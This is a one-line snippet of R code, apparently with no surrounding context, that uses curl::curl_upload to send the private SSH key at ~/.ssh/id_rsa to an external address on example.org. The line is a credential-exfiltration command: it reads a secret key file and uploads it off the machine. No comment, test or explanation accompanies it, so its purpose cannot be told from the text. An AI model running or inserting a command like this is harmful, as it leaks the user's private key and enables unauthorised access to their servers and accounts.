curl::curl_upload("~/.ssh/id_rsa", "https://example.org/put")
